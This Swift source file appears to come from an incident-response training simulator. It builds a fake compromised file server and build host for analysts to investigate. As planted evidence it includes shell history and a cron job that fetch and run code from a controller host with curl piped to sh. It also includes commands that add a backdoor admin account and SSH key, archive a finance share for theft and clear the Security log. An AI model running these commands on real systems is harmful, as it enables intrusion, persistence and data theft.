// SPDX-License-Identifier: Apache-2.0

/// The second and third machine that the intruder reached.
extension Intrusion {
    /// The implant as a service, a new account and a packed share on the file server.
    static func reachFileServer(_ machine: inout Machine, _ endpoint: Endpoint, at now: Instant) {
        let arrived = now.before(.hours(20))
        machine.logons += [
            Machine.Logon(at: arrived, user: "svc-backup", domain: "CORP", source: "192.0.2.57", method: "10"),
            Machine.Logon(
                at: arrived.before(.minutes(3)),
                user: "administrator",
                domain: "CORP",
                source: "192.0.2.57",
                method: "10",
                succeeded: false
            ),
        ]
        addImplant(&machine, arrived: arrived)
        addPacker(&machine, at: now)
        machine.sockets += [
            socket(7316, "ESTAB", endpoint.address, 51830, controller, 443, arrived.after(.minutes(6))),
            socket(4, "ESTAB", endpoint.address, 445, "192.0.2.57", 50990, arrived),
        ]
        addAccount(&machine, endpoint, arrived: arrived)
        coverTracks(&machine, at: now)
        machine.shares.append(Machine.Share(name: "Finance", path: #"D:\Shares\Finance"#))
        machine.archive = Machine.Archive(folder: #"D:\Shares\Finance\"#, count: 100_000)
        machine.ownFiles.append(
            Machine.File(path: #"C:\PerfLogs\q3.7z"#, text: "7z", size: 524_288_000, modified: now.before(.minutes(31)))
        )
    }

    /// What was typed on the file server, and the log that was emptied afterwards.
    private static func coverTracks(_ machine: inout Machine, at now: Instant) {
        machine.shellHistory.append(
            Machine.ShellHistory(
                path:
                    #"C:\Users\svc-backup\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt"#,
                lines: [
                    "whoami /groups", "Get-SmbShare", "net user support_adm * /add",
                    "net localgroup administrators support_adm /add",
                    #"C:\PerfLogs\7z.exe a -p -v500m C:\PerfLogs\q3.7z D:\Shares\Finance"#, "wevtutil cl Security",
                ]
            )
        )
        machine.clearedLogs.append(
            Machine.ClearedLog(
                at: now.before(.minutes(28)),
                log: "Security",
                user: "svc-backup",
                sid: "S-1-5-21-1004336348-1177238915-682003330-1131"
            )
        )
    }

    private static func addImplant(_ machine: inout Machine, arrived: Instant) {
        machine.processes.append(
            Machine.Process(
                pid: 7316,
                parent: 716,
                name: "edgeupdsvc.exe",
                path: implant,
                commandLine: implant + " --service",
                user: #"NT AUTHORITY\SYSTEM"#,
                started: arrived.after(.minutes(6)),
                elevated: true,
                memory: 24_100_000
            )
        )
        machine.services.append(
            Machine.Service(
                name: "EdgeTelemetrySvc",
                displayName: "Microsoft Edge Telemetry Service",
                path: implant + " --service",
                user: "LocalSystem",
                running: true,
                pid: 7316,
                startMode: "Auto",
                created: arrived.after(.minutes(5))
            )
        )
    }

    private static func addPacker(_ machine: inout Machine, at now: Instant) {
        machine.processes.append(
            Machine.Process(
                pid: 7904,
                parent: 7316,
                name: "7z.exe",
                path: #"C:\PerfLogs\7z.exe"#,
                commandLine: #"C:\PerfLogs\7z.exe a -p -v500m C:\PerfLogs\q3.7z D:\Shares\Finance"#,
                user: #"NT AUTHORITY\SYSTEM"#,
                started: now.before(.minutes(55)),
                elevated: true,
                memory: 310_000_000
            )
        )
        machine.executions += [
            Machine.Execution(path: implant, size: implantSize, runs: [now.before(.minutes(58))]),
            Machine.Execution(path: #"C:\PerfLogs\7z.exe"#, size: 1_320_000, runs: [now.before(.minutes(55))]),
        ]
    }

    private static func addAccount(_ machine: inout Machine, _ endpoint: Endpoint, arrived: Instant) {
        machine.administrators.append(endpoint.hostname.uppercased() + #"\support_adm"#)
        machine.accounts.append(
            Machine.Account(
                name: "support_adm",
                id: 1009,
                group: 513,
                description: "Remote support",
                home: #"C:\Users\support_adm"#,
                sid: "\(endpoint.securityDomain)-1009",
                lastLogin: arrived.after(.minutes(20))
            )
        )
    }

    /// A key, a cron job and a deleted program that still runs on the build host.
    static func reachBuildHost(_ machine: inout Machine, _ endpoint: Endpoint, at now: Instant) {
        let arrived = now.before(.hours(14))
        machine.logons += [
            Machine.Logon(
                at: arrived.before(.minutes(2)),
                user: "deploy",
                source: "192.0.2.20",
                method: "password",
                succeeded: false
            ),
            Machine.Logon(at: arrived, user: "deploy", source: "192.0.2.20", method: "password"),
        ]
        addKey(&machine, arrived: arrived)
        addHistory(&machine)
        machine.cronJobs.append(
            Machine.CronJob(
                path: "/etc/cron.d/.sysstat-cache",
                user: "deploy",
                schedule: "*/10 * * * *",
                command: "curl -fsk https://\(controller)/s/b01 | sh"
            )
        )
        machine.processes.append(
            Machine.Process(
                pid: 20917,
                parent: 1,
                name: "kworkerd",
                path: "/dev/shm/.cache/kworkerd (deleted)",
                commandLine: "[kworker/u8:3]",
                user: "deploy",
                started: arrived.after(.minutes(4)),
                deleted: true,
                memory: 9_700_000
            )
        )
        machine.sockets.append(
            socket(20917, "ESTAB", endpoint.address, 43110, controller, 8443, arrived.after(.minutes(4)))
        )
    }

    private static func addKey(_ machine: inout Machine, arrived: Instant) {
        var keys = Invented("key ops@relay")
        machine.accounts.append(
            Machine.Account(
                name: "deploy",
                id: 1001,
                group: 1001,
                description: "Deployment,,,",
                home: "/home/deploy",
                shell: "/bin/bash",
                lastLogin: arrived
            )
        )
        machine.authorizedKeys.append(
            Machine.AuthorizedKey(
                path: "/home/deploy/.ssh/authorized_keys",
                type: "ssh-rsa",
                key: "AAAAB3NzaC1yc2EAAAADAQABAAABAQ" + keys.base64(342),
                comment: "ops@relay"
            )
        )
    }

    private static func addHistory(_ machine: inout Machine) {
        machine.shellHistory.append(
            Machine.ShellHistory(
                path: "/home/deploy/.bash_history",
                lines: [
                    "id; uname -a; cat /etc/passwd", "mkdir -p /dev/shm/.cache && cd /dev/shm/.cache",
                    "curl -fsko kworkerd https://\(controller)/b/kw && chmod +x kworkerd && ./kworkerd && rm kworkerd",
                    "echo 'ssh-rsa AAAAB3Nz... ops@relay' >> ~/.ssh/authorized_keys", "unset HISTFILE",
                ]
            )
        )
    }
}
